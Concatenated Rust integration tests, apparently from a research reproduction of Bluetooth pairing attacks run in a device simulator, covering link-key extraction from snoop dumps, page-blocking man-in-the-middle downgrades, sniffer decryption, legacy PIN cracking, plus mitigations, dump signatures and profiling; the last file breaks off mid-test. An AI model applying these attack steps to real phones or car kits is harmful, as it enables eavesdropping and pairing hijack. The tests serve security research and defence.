    let a = world.add_device(profiles::pixel_2_xl().victim_phone(PHONE));
    let b = world.add_device(profiles::galaxy_s21().victim_phone(KIT));

    world.device_mut(a).host.pair_with(addr(KIT));
    world.run_for(Duration::from_secs(5));

    // Both DisplayYesNo: a genuine numeric comparison with the same value
    // on both screens.
    let value_a = world.device(a).user.find(|n| {
        matches!(
            n,
            UiNotification::PairingConfirmation {
                numeric: Some(_),
                ..
            }
        )
    });
    let value_b = world.device(b).user.find(|n| {
        matches!(
            n,
            UiNotification::PairingConfirmation {
                numeric: Some(_),
                ..
            }
        )
    });
    let get = |n: Option<&UiNotification>| match n {
        Some(UiNotification::PairingConfirmation {
            numeric: Some(v), ..
        }) => *v,
        _ => panic!("expected numeric popup"),
    };
    let (va, vb) = (get(value_a), get(value_b));
    assert_eq!(va, vb, "both users must see the same six digits");
    assert!(va < 1_000_000);

    // And the resulting key is authenticated.
    let bond = world
        .device(a)
        .host
        .keystore()
        .get(addr(KIT))
        .expect("bonded");
    assert_eq!(bond.key_type, LinkKeyType::AuthenticatedP256);
}

#[test]
fn fig2b_bonded_devices_skip_pairing() {
    let mut world = World::new(102);
    let phone = world.add_device(profiles::lg_velvet().victim_phone(PHONE));
    let kit = world.add_device(profiles::car_kit(KIT));

    world.device_mut(phone).host.pair_with(addr(KIT));
    world.run_for(Duration::from_secs(5));
    world.device_mut(phone).host.disconnect(addr(KIT));
    world.run_for(Duration::from_secs(2));

    let popups_before = world.device(phone).user.log.len();
    world
        .device_mut(phone)
        .host
        .connect_profile(addr(KIT), ServiceUuid::HANDS_FREE);
    world.run_for(Duration::from_secs(5));

    assert!(world.linked(phone, kit));
    // No new pairing UI: authentication rode the stored link key.
    assert!(!world.device(phone).user.log[popups_before..]
        .iter()
        .any(|(_, n)| matches!(n, UiNotification::PairingConfirmation { .. })));
    let auth_ok = world.device(phone).user.log[popups_before..]
        .iter()
        .any(|(_, n)| {
            matches!(
                n,
                UiNotification::AuthenticationOutcome {
                    status: blap_repro::hci::StatusCode::Success,
                    ..
                }
            )
        });
    assert!(auth_ok, "bonded reconnect must authenticate successfully");
}

#[test]
fn wrong_stored_key_fails_authentication_and_wipes_bond() {
    let mut world = World::new(103);
    let phone = world.add_device(profiles::lg_velvet().victim_phone(PHONE));
    let _kit = world.add_device(profiles::car_kit(KIT));

    world.device_mut(phone).host.pair_with(addr(KIT));
    world.run_for(Duration::from_secs(5));
    world.device_mut(phone).host.disconnect(addr(KIT));
    world.run_for(Duration::from_secs(2));

    // Corrupt the phone's stored key.
    let entry = world
        .device(phone)
        .host
        .keystore()
        .get(addr(KIT))
        .cloned()
        .expect("bonded");
    let mut corrupted = entry.clone();
    corrupted.link_key = "00000000000000000000000000000000"
        .parse()
        .expect("valid key");
    world
        .device_mut(phone)
        .host
        .install_bond(addr(KIT), corrupted);

    world
        .device_mut(phone)
        .host
        .connect_profile(addr(KIT), ServiceUuid::HANDS_FREE);
    world.run_for(Duration::from_secs(5));

    // Authentication failed and — unlike the attack's timeout path — the
    // bond was deleted.
    assert!(
        world.device(phone).host.keystore().get(addr(KIT)).is_none(),
        "authentication failure must wipe the bond"
    );
    assert!(world
        .device(phone)
        .user
        .find(|n| matches!(n, UiNotification::BondLost { .. }))
        .is_some());
}

#[test]
fn discovery_sees_discoverable_devices_with_cod() {
    let mut world = World::new(104);
    let phone = world.add_device(profiles::lg_velvet().victim_phone(PHONE));
    let _kit = world.add_device(profiles::car_kit(KIT));

    world.device_mut(phone).host.start_discovery();
    world.run_for(Duration::from_secs(15));

    let devices = world
        .device(phone)
        .user
        .find(|n| matches!(n, UiNotification::DiscoveryComplete { .. }));
    match devices {
        Some(UiNotification::DiscoveryComplete { devices }) => {
            assert!(devices.iter().any(|(a, cod)| {
                *a == addr(KIT)
                    && cod.major_device_class() == blap_repro::types::MajorDeviceClass::AudioVideo
            }));
        }
        _ => panic!("discovery must complete"),
    }
}

#[test]
fn user_rejection_leaves_no_bond() {
    let mut world = World::new(105);
    let mut spec = profiles::pixel_2_xl().victim_phone(PHONE);
    spec.user.accept_pairing = false;
    let phone = world.add_device(spec);
    let _kit = world.add_device(profiles::car_kit(KIT));

    world.device_mut(phone).host.pair_with(addr(KIT));
    world.run_for(Duration::from_secs(5));

    assert!(world.device(phone).host.keystore().is_empty());
    let failed = world
        .device(phone)
        .user
        .find(|n| matches!(n, UiNotification::PairingComplete { success: false, .. }));
    assert!(failed.is_some(), "declined pairing must fail visibly");
}
