//! Failure-injection integration tests: malformed captures, truncated
//! files, hostile inputs, and links dying at inconvenient moments.

use blap_repro::attacks::extract;
use blap_repro::hci::{Command, HciPacket, PacketDirection};
use blap_repro::sim::{profiles, World};
use blap_repro::snoop::btsnoop::{self, SnoopError, SnoopRecord};
use blap_repro::snoop::log::HciTrace;
use blap_repro::snoop::{hexconv, redact};
use blap_repro::types::{BdAddr, Duration, Instant, LinkKey};

fn addr(s: &str) -> BdAddr {
    s.parse().expect("valid address")
}

#[test]
fn truncated_snoop_files_are_rejected_not_misparsed() {
    let mut world = World::new(500);
    let phone =
        world.add_device(profiles::lg_velvet().victim_phone_with_snoop("48:90:12:34:56:78"));
    let _kit = world.add_device(profiles::car_kit("00:1b:7d:da:71:0a"));
    world
        .device_mut(phone)
        .host
        .pair_with(addr("00:1b:7d:da:71:0a"));
    world.run_for(Duration::from_secs(5));
    let dump = world.device(phone).bug_report().expect("snoop on");

    for cut in [1, 8, 15, 20, dump.len() - 3] {
        let result = HciTrace::from_btsnoop_bytes(&dump[..cut]);
        assert!(
            result.is_err(),
            "cut at {cut} must be rejected, got {result:?}"
        );
    }
    // A full file still parses.
    assert!(HciTrace::from_btsnoop_bytes(&dump).is_ok());
}

#[test]
fn corrupted_magic_is_bad_magic() {
    let mut world = World::new(501);
    let phone =
        world.add_device(profiles::lg_velvet().victim_phone_with_snoop("48:90:12:34:56:78"));
    let _kit = world.add_device(profiles::car_kit("00:1b:7d:da:71:0a"));
    world
        .device_mut(phone)
        .host
        .pair_with(addr("00:1b:7d:da:71:0a"));
    world.run_for(Duration::from_secs(5));
    let mut dump = world.device(phone).bug_report().expect("snoop on");
    dump[3] ^= 0xFF;
    assert_eq!(
        HciTrace::from_btsnoop_bytes(&dump).unwrap_err(),
        SnoopError::BadMagic
    );
}

#[test]
fn garbage_records_are_skipped_not_fatal() {
    // A capture interleaving valid packets with junk still yields the
    // valid ones (real dumps carry vendor packets this model cannot know).
    let key: LinkKey = "c4f16e949f04ee9c0fd6b1023389c324"
        .parse()
        .expect("valid key");
    let good = HciPacket::Command(Command::LinkKeyRequestReply {
        bd_addr: addr("00:1b:7d:da:71:0a"),
        link_key: key,
    });
    let records = vec![
        SnoopRecord {
            timestamp: Instant::EPOCH,
            direction: PacketDirection::Sent,
            data: vec![0xFF, 0x00, 0x11, 0x22], // unknown H4 indicator
        },
        SnoopRecord {
            timestamp: Instant::EPOCH,
            direction: PacketDirection::Sent,
            data: good.encode(),
        },
        SnoopRecord {
            timestamp: Instant::EPOCH,
            direction: PacketDirection::Sent,
            data: vec![0x01, 0x0b], // truncated command
        },
    ];
    let trace = HciTrace::from_btsnoop_bytes(&btsnoop::write_file(&records)).expect("container ok");
    assert_eq!(trace.len(), 1);
    assert_eq!(trace.link_key_for(addr("00:1b:7d:da:71:0a")), Some(key));
}

#[test]
fn usb_scan_survives_adversarial_noise() {
    // A stream stuffed with fake `0b 04 16` headers that run off the end,
    // plus one genuine packet: exactly one correct extraction.
    let key: LinkKey = "71a70981f30d6af9e20adee8aafe3264"
        .parse()
        .expect("valid key");
    let mut stream = Vec::new();
    for _ in 0..5 {
        stream.extend_from_slice(&[0x0b, 0x04, 0x16, 0x01, 0x02]); // too short
        stream.extend_from_slice(&[0x00; 3]);
    }
    // The torn headers above each have >22 bytes of following noise-bytes
    // collectively, so some will "succeed" with garbage — the attack's
    // validation step exists precisely to weed those out. Verify the real
    // one is among the candidates.
    let genuine = HciPacket::Command(Command::LinkKeyRequestReply {
        bd_addr: addr("00:1b:7d:da:71:0a"),
        link_key: key,
    })
    .encode();
    stream.extend_from_slice(&genuine[1..]);
    let candidates = hexconv::scan_link_key_replies(&stream);
    assert!(candidates
        .iter()
        .any(|m| LinkKey::from_le_bytes(m.key_le) == key));
}

#[test]
fn redaction_is_idempotent_and_total() {
    let key: LinkKey = "71a70981f30d6af9e20adee8aafe3264"
        .parse()
        .expect("valid key");
    let mut bytes = HciPacket::Command(Command::LinkKeyRequestReply {
        bd_addr: addr("00:1b:7d:da:71:0a"),
        link_key: key,
    })
    .encode();
    assert!(redact::redact_link_keys(&mut bytes));
    let once = bytes.clone();
    assert!(redact::redact_link_keys(&mut bytes)); // still matches the shape
    assert_eq!(bytes, once, "double redaction must be a no-op");
    // No key bytes remain anywhere in the packet.
    let key_bytes = key.to_le_bytes();
    assert!(!bytes
        .windows(key_bytes.len())
        .any(|w| w == key_bytes.as_slice()));
}

#[test]
fn attack_window_closes_when_victim_disconnects_early() {
    // If C never re-connects to the spoofed M, nothing is logged beyond
    // the original pairing and the attacker learns nothing new from a
    // fresh (post-wipe) dump.
    let mut world = World::new(502);
    let c = world.add_device(profiles::galaxy_s8().soft_target("00:1b:7d:da:71:0a"));
    let a = world.add_device(profiles::attacker_nexus_5x("a7:7a:c8:e2:00:01"));
    // A spoofs a phantom M that C was never bonded to.
    world
        .device_mut(a)
        .controller
        .set_bd_addr(addr("48:90:12:34:56:78"));
    world.run_for(Duration::from_secs(5));
    assert_eq!(
        extract::from_snoop_log(world.device(c), addr("48:90:12:34:56:78")),
        None,
        "no bond, no authentication, no key in the dump"
    );
}

#[test]
fn tampered_trace_is_caught_by_invariant_checker() {
    // A healthy observed run passes every trace invariant; the same
    // artifact with faults injected must be flagged. Two tampers:
    // dropping LMP receive lines (a lossy capture) trips lmp-matching,
    // and flipping the trial verdict trips blocking-implies-win.
    use blap_obs::{analyze_trace, JsonlBuffer, Tracer};
    use blap_repro::attacks::page_blocking::PageBlockingScenario;

    let tracer = Tracer::new();
    let buffer = JsonlBuffer::new();
    tracer.attach(buffer.clone());
    let scenario = PageBlockingScenario::new(profiles::galaxy_s8(), 504);
    let (outcome, _metrics) = scenario.run_blocking_trial_observed(0, &tracer);
    assert!(outcome.mitm_established, "blocking trial must hit");
    let trace = buffer.contents();
    let healthy = analyze_trace(&trace).expect("trace parses");
    assert!(
        healthy.ok(),
        "untampered run must pass:\n{}",
        healthy.report()
    );

    let lossy: String = trace
        .lines()
        .filter(|l| !l.contains("\"ev\":\"lmp_recv\""))
        .map(|l| format!("{l}\n"))
        .collect();
    let analysis = analyze_trace(&lossy).expect("tampered trace still parses");
    assert!(
        analysis
            .violations
            .iter()
            .any(|v| v.invariant == "lmp-matching"),
        "dropped receives must violate lmp-matching:\n{}",
        analysis.report()
    );

    let flipped = trace.replace(
        "\"status\":\"attacker_won\"",
        "\"status\":\"attacker_lost\"",
    );
    let analysis = analyze_trace(&flipped).expect("tampered trace still parses");
    assert!(
        analysis
            .violations
            .iter()
            .any(|v| v.invariant == "blocking-implies-win"),
        "a forged verdict must violate blocking-implies-win:\n{}",
        analysis.report()
    );
}

#[test]
fn lossy_user_and_dead_links_do_not_wedge_the_world() {
    // Chaos run: devices appear, pair, drop, re-pair; the world must stay
    // consistent (no panics, keys agree wherever both ends report a bond).
    let mut world = World::new(503);
    let phone = world.add_device(profiles::pixel_2_xl().victim_phone("48:90:12:34:56:78"));
    let kit = world.add_device(profiles::car_kit("00:1b:7d:da:71:0a"));
    let kit_addr = addr("00:1b:7d:da:71:0a");

    for round in 0..3 {
        world.device_mut(phone).host.pair_with(kit_addr);
        world.run_for(Duration::from_secs(4));
        world.device_mut(phone).host.disconnect(kit_addr);
        world.run_for(Duration::from_secs(2));
        let phone_key = world
            .device(phone)
            .host
            .keystore()
            .get(kit_addr)
            .map(|e| e.link_key);
        let kit_key = world
            .device(kit)
            .host
            .keystore()
            .get(addr("48:90:12:34:56:78"))
            .map(|e| e.link_key);
        assert_eq!(phone_key, kit_key, "round {round}: stores diverged");
        assert!(phone_key.is_some(), "round {round}: no bond");
    }
}
