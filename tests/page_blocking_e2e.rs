//! End-to-end integration tests for the page blocking attack across the
//! Table II catalog, the downgrade semantics, and the §VII-B mitigation.

use blap_repro::attacks::mitigations;
use blap_repro::attacks::page_blocking::PageBlockingScenario;
use blap_repro::sim::profiles;
use blap_repro::types::Duration;

#[test]
fn page_blocking_hits_every_table2_device() {
    for (i, profile) in profiles::table2_profiles().into_iter().enumerate() {
        let scenario = PageBlockingScenario::new(profile, 400 + i as u64);
        let outcome = scenario.run_blocking_trial(0);
        assert!(
            outcome.mitm_established && outcome.paired_with_attacker,
            "{} must be page-blockable: {outcome:?}",
            profile.name
        );
        assert!(outcome.downgraded_to_just_works, "{}", profile.name);
        assert!(outcome.fig12b_signature, "{}", profile.name);
    }
}

#[test]
fn blocking_beats_baseline_on_every_device() {
    // The shape of Table II: whatever the baseline rate, blocking is 100%.
    for (i, profile) in profiles::table2_profiles().into_iter().enumerate() {
        let mut scenario = PageBlockingScenario::new(profile, 450 + i as u64);
        scenario.trials = 12;
        let row = scenario.run();
        assert_eq!(
            row.measured_blocking_rate, 1.0,
            "{}: blocking must be deterministic",
            profile.name
        );
        assert!(
            row.measured_blocking_rate > row.measured_baseline_rate
                || row.measured_baseline_rate == 1.0,
            "{}: blocking must not lose to the race",
            profile.name
        );
    }
}

#[test]
fn baseline_rates_track_paper_calibration() {
    // With enough trials the measured baseline converges on the paper's
    // rate (the race model is calibrated, the rest of the pipeline must
    // not distort it).
    let mut scenario = PageBlockingScenario::new(profiles::galaxy_s8(), 460);
    scenario.trials = 60;
    let row = scenario.run();
    assert!(
        (row.measured_baseline_rate - 0.42).abs() < 0.18,
        "baseline {} too far from the calibrated 42%",
        row.measured_baseline_rate
    );
}

#[test]
fn losing_the_baseline_race_pairs_honestly() {
    let scenario = PageBlockingScenario::new(profiles::galaxy_s8(), 461);
    let honest = (0..20)
        .map(|t| scenario.run_baseline_trial(t))
        .find(|o| !o.mitm_established);
    let honest = honest.expect("a 42% attacker should lose at least once in 20");
    assert!(
        honest.honest_pairing,
        "when the attacker loses, C must pair normally"
    );
}

#[test]
fn popup_carries_no_comparable_value_under_attack() {
    // §V-B2: on v5.0+ victims the user sees a yes/no popup with nothing to
    // verify. On the v4.2- victim they see nothing at all.
    let v50 = PageBlockingScenario::new(profiles::galaxy_s21(), 462).run_blocking_trial(0);
    assert!(v50.popup_shown, "v5.0+ mandates a popup");
    assert!(!v50.popup_had_number, "but it has no comparable value");

    let v42 = PageBlockingScenario::new(profiles::nexus_5x_a8(), 463).run_blocking_trial(0);
    assert!(
        !v42.popup_shown,
        "v4.2- initiator auto-confirms silently (Fig 7a)"
    );
}

#[test]
fn suspicious_user_declining_stops_the_attack() {
    let mut scenario = PageBlockingScenario::new(profiles::galaxy_s21(), 464);
    scenario.user_accepts = false;
    let outcome = scenario.run_blocking_trial(0);
    assert!(
        !outcome.paired_with_attacker,
        "a declining user must stop a popup-generation victim"
    );
}

#[test]
fn role_check_mitigation_stops_blocking_without_breaking_pairing() {
    let (outcome, verdict) = mitigations::page_blocking_with_role_check(profiles::lg_velvet(), 465);
    assert!(!verdict.attack_succeeded, "{}", verdict.evidence);
    assert!(outcome.security_alert);
    assert!(mitigations::role_check_false_positive_probe(
        profiles::lg_velvet(),
        466
    ));
}

#[test]
fn slow_user_needs_the_keepalive() {
    let mut scenario = PageBlockingScenario::new(profiles::iphone_xs(), 467);
    scenario.pairing_delay = Duration::from_secs(30);
    scenario.ploc_delay = Duration::from_secs(60);
    scenario.keepalive = false;
    let bare = scenario.run_blocking_trial(0);
    assert!(!(bare.paired_with_attacker && bare.fig12b_signature));

    scenario.keepalive = true;
    let kept = scenario.run_blocking_trial(0);
    assert!(kept.paired_with_attacker && kept.fig12b_signature);
}
