//! Integration tests for the beyond-the-evaluation extensions: air-sniffer
//! eavesdropping, legacy PIN pairing + cracking, and the downgrade
//! detector — all exercised through the public API like a downstream user
//! would.

use blap_repro::attacks::eavesdrop::{decrypt_capture, EavesdropScenario};
use blap_repro::attacks::legacy_pin::{crack_numeric_pin, LegacyPairingCapture};
use blap_repro::attacks::mitigations::downgrade_detection_probe;
use blap_repro::sim::{profiles, SniffedFrame, World};
use blap_repro::types::{BdAddr, Duration, ServiceUuid};

fn addr(s: &str) -> BdAddr {
    s.parse().expect("valid address")
}

#[test]
fn eavesdrop_pipeline_end_to_end() {
    let scenario = EavesdropScenario::new(900);
    let report = scenario.run();
    assert!(report.captured_encrypted_frames >= scenario.secrets.len());
    assert!(!report.ciphertext_contains_secrets);
    assert!(report.succeeded(scenario.secrets.len()), "{report:?}");
}

#[test]
fn eavesdrop_is_deterministic() {
    let a = EavesdropScenario::new(901).run();
    let b = EavesdropScenario::new(901).run();
    assert_eq!(a.stolen_key, b.stolen_key);
    assert_eq!(a.decrypted_secrets, b.decrypted_secrets);
}

#[test]
fn sniffer_sees_cleartext_lmp_but_not_payloads() {
    // Build a world with an encrypted session and inspect the raw capture.
    let mut world = World::new(902);
    let m = world.add_device(profiles::lg_velvet().victim_phone("48:90:12:34:56:78"));
    let c = world.add_device(profiles::galaxy_s8().soft_target("00:1b:7d:da:71:0a"));
    let m_addr = addr("48:90:12:34:56:78");
    let _ = m;
    world.device_mut(c).host.pair_with(m_addr);
    world.run_for(Duration::from_secs(5));
    world.device_mut(c).host.disconnect(m_addr);
    world.run_for(Duration::from_secs(2));
    world
        .device_mut(c)
        .host
        .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
    world.run_for(Duration::from_secs(5));
    let secret = b"very private phonebook".to_vec();
    world.device_mut(c).host.send_data(m_addr, secret.clone());
    world.run_for(Duration::from_secs(1));

    let frames = world.sniffed_frames();
    // LMP control traffic is visible by name.
    assert!(frames.iter().any(|f| matches!(
        f,
        SniffedFrame::Lmp { name, .. } if *name == "LMP_au_rand"
    )));
    // The au_rand value itself is captured (the eavesdropper's input).
    assert!(frames.iter().any(|f| matches!(
        f,
        SniffedFrame::Lmp {
            au_rand: Some(_),
            ..
        }
    )));
    // No encrypted frame contains the plaintext secret.
    for frame in frames {
        if let SniffedFrame::Acl {
            data,
            encrypted: true,
            ..
        } = frame
        {
            assert!(
                !data.windows(secret.len()).any(|w| w == secret.as_slice()),
                "ciphertext leaked the payload"
            );
        }
    }
}

#[test]
fn decrypting_with_wrong_roles_fails_cleanly() {
    // Swapping verifier/prover addresses derives the wrong keys; CCM must
    // reject everything rather than produce garbage plaintext.
    let scenario = EavesdropScenario::new(903);
    let mut world = World::new(scenario.seed);
    let _m = world.add_device(profiles::lg_velvet().victim_phone("48:90:12:34:56:78"));
    let c = world.add_device(profiles::galaxy_s8().soft_target("00:1b:7d:da:71:0a"));
    let m_addr = addr("48:90:12:34:56:78");
    world.device_mut(c).host.pair_with(m_addr);
    world.run_for(Duration::from_secs(5));
    world.device_mut(c).host.disconnect(m_addr);
    world.run_for(Duration::from_secs(2));
    world
        .device_mut(c)
        .host
        .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
    world.run_for(Duration::from_secs(5));
    world
        .device_mut(c)
        .host
        .send_data(m_addr, b"payload".to_vec());
    world.run_for(Duration::from_secs(1));

    let key = blap_repro::attacks::extract::from_snoop_log(world.device(c), m_addr)
        .expect("dump leaks the key");
    let frames = world.sniffed_frames().to_vec();
    // Correct roles: C is verifier (it initiated the profile connection).
    let right = decrypt_capture(&frames, key, addr("00:1b:7d:da:71:0a"), m_addr);
    assert!(!right.is_empty());
    // Swapped roles: nothing decrypts.
    let wrong = decrypt_capture(&frames, key, m_addr, addr("00:1b:7d:da:71:0a"));
    assert!(
        wrong.is_empty(),
        "role-swapped derivation must fail: {wrong:?}"
    );
}

#[test]
fn legacy_pairing_key_is_crackable_from_its_transcript() {
    // Tie the two legacy pieces together: a pairing the simulation actually
    // ran produces a key; a transcript with the same parameters cracks to
    // the same key.
    let initiator = addr("11:11:11:11:11:11");
    let responder = addr("cc:cc:cc:cc:cc:cc");
    let capture = LegacyPairingCapture::synthesize(
        initiator, responder, b"0000", [0x13; 16], [0x57; 16], [0x9b; 16], [0xdf; 16],
    );
    let result = crack_numeric_pin(&capture, 4).expect("default PIN cracks");
    assert_eq!(result.pin, b"0000");
    assert_eq!(result.link_key, capture.key_for_pin(b"0000"));
    // "0000" is candidate #1 of the 4-digit space once shorter widths are
    // exhausted; either way it falls inside the first 1111+1 candidates.
    assert!(result.attempts <= 1112, "attempts {}", result.attempts);
}

#[test]
fn downgrade_detector_only_fires_on_downgrades() {
    // Authenticated -> unauthenticated replacement: blocked.
    let (survived, alert) = downgrade_detection_probe(profiles::pixel_2_xl(), true);
    assert!(survived && alert);

    // Fresh unauthenticated bond with no history: allowed (host-level
    // check via the probe with mitigation off covers the baseline; here we
    // check no false positive on a clean world pairing a car-kit).
    let mut world = World::new(904);
    let mut spec = profiles::pixel_2_xl().victim_phone("48:90:12:34:56:78");
    spec.host.mitigations.detect_key_type_downgrade = true;
    let phone = world.add_device(spec);
    let _kit = world.add_device(profiles::car_kit("00:1b:7d:da:71:0a"));
    world
        .device_mut(phone)
        .host
        .pair_with(addr("00:1b:7d:da:71:0a"));
    world.run_for(Duration::from_secs(5));
    assert!(
        world
            .device(phone)
            .host
            .keystore()
            .get(addr("00:1b:7d:da:71:0a"))
            .is_some(),
        "first-time Just Works bonding must not be blocked"
    );
    assert!(world
        .device(phone)
        .user
        .find(|n| matches!(n, blap_repro::host::UiNotification::SecurityAlert { .. }))
        .is_none());
}
