//! Integration checks for the wall-time profiler (`blap_obs::prof`).
//!
//! The profiler is a sidecar: it must *observe* the attack pipeline's
//! wall-clock shape without ever perturbing the deterministic artifacts
//! (that half of the guarantee is pinned in `parallel_determinism.rs`).
//! These tests pin the observing half:
//!
//! * a profiled Table I run produces the trial→phase scope hierarchy the
//!   scope-naming contract promises, with self-times that sum to no more
//!   than the run's wall time, and
//! * the worker-utilization accounting in `blap::runner` notices a
//!   deliberately skewed workload — the worker stuck with the slow task
//!   reports imbalance above 1, and busy time stays within the pool's
//!   wall envelope.
//!
//! The profiler's state is process-global, so every test here serializes
//! on one lock and resets the registry around its measurements.

use std::sync::Mutex;
use std::time::{Duration, Instant};

use blap::runner::{parallel_map, parallel_search_scratch, Jobs};
use blap_obs::prof;

static PROF: Mutex<()> = Mutex::new(());

#[test]
fn folded_table1_profile_has_trial_phase_hierarchy_within_wall_time() {
    let _serial = PROF.lock().unwrap();
    prof::reset();
    prof::set_enabled(true);
    let wall_started = Instant::now();
    let observed = blap_bench::run_table1_observed_with(2022, Jobs::serial());
    let wall = wall_started.elapsed();
    prof::set_enabled(false);
    assert_eq!(observed.rows.len(), 9, "Table I runs nine profiles");

    let report = prof::report();
    let folded = report.to_folded();
    prof::reset();

    // Scope-naming contract: trials at the root, dispatch phases beneath
    // them, handler and crypto scopes beneath those.
    let paths: Vec<&str> = folded
        .lines()
        .filter_map(|line| line.rsplit_once(' ').map(|(path, _)| path))
        .collect();
    assert!(paths.contains(&"trial"), "root trial scope:\n{folded}");
    assert!(
        paths.contains(&"trial;lmp_deliver"),
        "LMP dispatch nests under the trial:\n{folded}"
    );
    assert!(
        paths.contains(&"trial;lmp_deliver;lmp_auth"),
        "authentication handling nests under LMP dispatch:\n{folded}"
    );
    assert!(
        paths.contains(&"trial;lmp_deliver;lmp_auth;crypto.p256"),
        "the P-256 kernel nests under authentication:\n{folded}"
    );
    assert!(
        paths.contains(&"trial;page"),
        "paging dispatch nests under the trial:\n{folded}"
    );

    // Self-times are disjoint slices of the run, so their sum is bounded
    // by the wall clock that enclosed it.
    let total_self_us: u64 = folded
        .lines()
        .filter_map(|line| {
            line.rsplit_once(' ')
                .and_then(|(_, us)| us.parse::<u64>().ok())
        })
        .sum();
    assert!(total_self_us > 0, "a full Table I run records time");
    assert!(
        u128::from(total_self_us) <= wall.as_micros(),
        "self-time sum {total_self_us}us exceeds wall {}us",
        wall.as_micros()
    );
}

#[test]
fn serial_search_accounts_chunks_and_excludes_init_from_busy() {
    let _serial = PROF.lock().unwrap();
    prof::reset();
    prof::set_enabled(true);
    // Scratch setup spins for 25 ms — an order of magnitude longer than
    // the scan itself. The serial fast path used to charge all of it
    // (init included) as one busy task with busy == wall; it must now
    // report one task per chunk scanned and keep init out of busy time,
    // exactly like the parallel path.
    let init = || {
        let spin = Instant::now();
        while spin.elapsed() < Duration::from_millis(25) {
            std::hint::black_box(0u64);
        }
        0u64
    };
    let wall_started = Instant::now();
    let found = parallel_search_scratch(Jobs::serial(), 1000, 100, init, |_, start, end| {
        (start..end).find(|&i| i == 550).map(|i| (i, i))
    });
    let wall = wall_started.elapsed();
    prof::set_enabled(false);
    assert_eq!(found, Some(550), "early exit still finds the hit");

    let report = prof::report();
    prof::reset();
    let pool = report.pool("parallel_search").expect("pool stats recorded");
    assert_eq!(pool.workers.len(), 1, "serial run has one worker");
    let worker = &pool.workers[0];
    // Chunks 0..=5 are scanned before the hit in chunk 5 stops the sweep.
    assert_eq!(
        worker.tasks, 6,
        "one task per chunk scanned, not one for the whole run"
    );
    // The 25 ms init dominates the wall clock; busy time must exclude it.
    assert!(
        worker.busy_ns < Duration::from_millis(20).as_nanos() as u64,
        "init time leaked into busy: {}ns busy vs {}ns wall",
        worker.busy_ns,
        wall.as_nanos()
    );
    assert!(
        pool.wall_ns >= Duration::from_millis(25).as_nanos() as u64,
        "the pool envelope still covers the whole run including init"
    );
}

#[test]
fn skewed_parallel_map_reports_imbalance_within_wall_envelope() {
    let _serial = PROF.lock().unwrap();
    prof::reset();
    prof::set_enabled(true);
    const WORKERS: usize = 4;
    // One task spins an order of magnitude longer than the rest combined:
    // whichever worker draws it must dominate the pool's busy time.
    let out = parallel_map(Jobs::new(WORKERS), 8, |i| {
        if i == 0 {
            let spin = Instant::now();
            while spin.elapsed() < Duration::from_millis(25) {
                std::hint::black_box(i);
            }
        }
        i
    });
    prof::set_enabled(false);
    assert_eq!(out, (0..8).collect::<Vec<_>>());

    let report = prof::report();
    prof::reset();
    let pool = report.pool("parallel_map").expect("pool stats recorded");
    assert_eq!(pool.runs, 1, "exactly the one profiled run");
    assert_eq!(pool.workers.len(), WORKERS, "every worker reports");
    let tasks: u64 = pool.workers.iter().map(|w| w.tasks).sum();
    assert_eq!(tasks, 8, "every task is accounted to some worker");

    // Busy time can never exceed the wall envelope: each worker was busy
    // at most for the pool's whole wall time.
    assert!(
        pool.busy_ns() <= pool.wall_ns.saturating_mul(WORKERS as u64),
        "busy {}ns exceeds wall envelope {}ns x {WORKERS}",
        pool.busy_ns(),
        pool.wall_ns
    );

    // The slow worker's share is far above the mean.
    let max_imbalance = pool
        .workers
        .iter()
        .map(|w| w.imbalance)
        .fold(0.0_f64, f64::max);
    assert!(
        max_imbalance > 1.0,
        "the worker that drew the slow task must exceed the mean, got {max_imbalance:.2}"
    );
}
