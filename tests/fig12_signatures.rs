//! Integration tests for the Fig 12 dump-signature analysis: the flows a
//! defender (or the paper's validation methodology) reads out of the HCI
//! dump to tell a normal pairing from a page-blocked one.

use blap_repro::attacks::addrs;
use blap_repro::hci::{Command, Event, HciPacket};
use blap_repro::sim::{profiles, World};
use blap_repro::types::{BdAddr, Duration};

fn addr(s: &str) -> BdAddr {
    s.parse().expect("valid address")
}

/// Collects the HCI command/event names from a device's snoop trace.
fn flow_names(world: &World, id: blap_repro::sim::DeviceId) -> Vec<&'static str> {
    world
        .device(id)
        .snoop_trace()
        .iter()
        .map(|e| e.packet.name())
        .collect()
}

#[test]
fn fig12a_normal_pairing_flow_order() {
    let mut world = World::new(600);
    let m = world.add_device(profiles::lg_velvet().victim_phone_with_snoop(addrs::M));
    let _c = world.add_device(profiles::car_kit(addrs::C));
    world.device_mut(m).host.pair_with(addr(addrs::C));
    world.run_for(Duration::from_secs(5));

    let names = flow_names(&world, m);
    // The Fig 12a prefix, in order.
    let expected_prefix = [
        "HCI_Create_Connection",
        "HCI_Command_Status",
        "HCI_Connection_Complete",
        "HCI_Authentication_Requested",
        "HCI_Command_Status",
        "HCI_Link_Key_Request",
        "HCI_Link_Key_Request_Negative_Reply",
    ];
    assert!(
        names.len() >= expected_prefix.len(),
        "flow too short: {names:?}"
    );
    assert_eq!(&names[..expected_prefix.len()], &expected_prefix);
    // And the IO capability request follows, as in the figure's last row.
    assert!(names.contains(&"HCI_IO_Capability_Request"));
}

#[test]
fn fig12b_attacked_pairing_flow_order() {
    let mut world = World::new(601);
    let m = world.add_device(profiles::lg_velvet().victim_phone_with_snoop(addrs::M));
    let _c = world.add_device(profiles::car_kit(addrs::C));
    let a = world.add_device(profiles::attacker_nexus_5x(addrs::C));
    world.device_mut(a).host.connect_only(addr(addrs::M));
    let m_copy = m;
    world.schedule_in(Duration::from_secs(2), move |w| {
        w.device_mut(m_copy).host.pair_with(addr(addrs::C));
    });
    world.run_for(Duration::from_secs(10));

    let names = flow_names(&world, m);
    let expected_prefix = [
        "HCI_Connection_Request",
        "HCI_Accept_Connection_Request",
        "HCI_Command_Status",
        "HCI_Connection_Complete",
        "HCI_Authentication_Requested",
        "HCI_Command_Status",
        "HCI_Link_Key_Request",
        "HCI_Link_Key_Request_Negative_Reply",
    ];
    assert!(
        names.len() >= expected_prefix.len(),
        "flow too short: {names:?}"
    );
    assert_eq!(&names[..expected_prefix.len()], &expected_prefix);
}

#[test]
fn signatures_discriminate_the_two_flows() {
    // 12a world.
    let mut normal = World::new(602);
    let m1 = normal.add_device(profiles::lg_velvet().victim_phone_with_snoop(addrs::M));
    let _c1 = normal.add_device(profiles::car_kit(addrs::C));
    normal.device_mut(m1).host.pair_with(addr(addrs::C));
    normal.run_for(Duration::from_secs(5));
    assert!(!normal
        .device(m1)
